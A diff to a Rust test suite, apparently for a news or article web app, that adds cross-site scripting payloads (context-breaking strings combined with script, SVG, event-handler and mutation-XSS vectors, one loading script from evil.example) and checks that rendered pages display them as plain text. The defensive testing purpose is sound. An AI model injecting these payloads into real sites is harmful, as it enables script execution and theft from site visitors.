@@ -76,10 +76,47 @@ const PAYLOADS: &[&str] = &[
     "'; DROP TABLE revisions; --",
 ];
 
+/// What ends whatever a text may have been put into: an attribute, an element whose content is raw, a comment, a section of XML.
+const WAYS_OUT: &[&str] = &[
+    "\">",
+    "'>",
+    "x ",
+    "\\\">",
+    "&quot;>",
+    "--!>",
+    "</noscript>",
+    "</template>",
+    "</bdi></a>",
+    "</svg>",
+    "?>",
+    "%22%3E",
+];
+/// What runs, or carries away, once it is out.
+const WAYS_ON: &[&str] = &[
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<img/src=x/onerror=alert(1)//",
+    "<svg/onload=alert`1`>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a></svg>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<audio src onerror=alert(1)>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<template><script>alert(1)</script></template>",
+    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">",
+    "<frameset onload=alert(1)>",
+];
+
+/// Those above, and every way out with every way on.
+fn payloads() -> Vec<String> {
+    let pairs = WAYS_OUT.iter().flat_map(|out| WAYS_ON.iter().map(move |on| format!("{out}{on}")));
+    PAYLOADS.iter().map(|payload| (*payload).to_owned()).chain(pairs).collect()
+}
+
 /// Articles that have each payload everywhere, and outcomes of them.
 fn batch() -> Batch {
     let mut batch = Batch::default();
-    for (number, payload) in PAYLOADS.iter().enumerate() {
+    for (number, payload) in payloads().iter().enumerate() {
         let text = |what: &str| format!("{payload} {what}{number}");
         let mut sample = Sample::new(number);
         sample.headline = Some(text("headline"));
@@ -233,7 +270,7 @@ async fn get(address: &str, path: &str) -> (String, String) {
 
 #[tokio::test]
 async fn whatever_a_page_wrote_is_text_everywhere() {
-    assert!(PAYLOADS.len() >= 60);
+    assert!(payloads().len() >= 200);
     let store = Store::open_in_memory().await.unwrap();
     let batch = batch();
     store.commit(&batch).await.unwrap();
@@ -284,9 +321,10 @@ async fn whatever_a_page_wrote_is_text_everywhere() {
         next = html.select(&link).next().and_then(|link| link.value().attr("href")).map(str::to_owned);
         seen.extend(html.root_element().text());
     }
+    for (number, payload) in payloads().iter().enumerate() {
+        assert!(seen.contains(&format!("headline{number}")), "{payload}");
+    }
     for (number, payload) in PAYLOADS.iter().enumerate() {
-        let tail = format!("headline{number}");
-        assert!(seen.contains(&tail), "{payload}");
         let encoded: String = url::form_urlencoded::byte_serialize(payload.as_bytes()).collect();
         paths.push(format!("/search?q={encoded}"));
         paths.push(format!("/people?by={encoded}"));
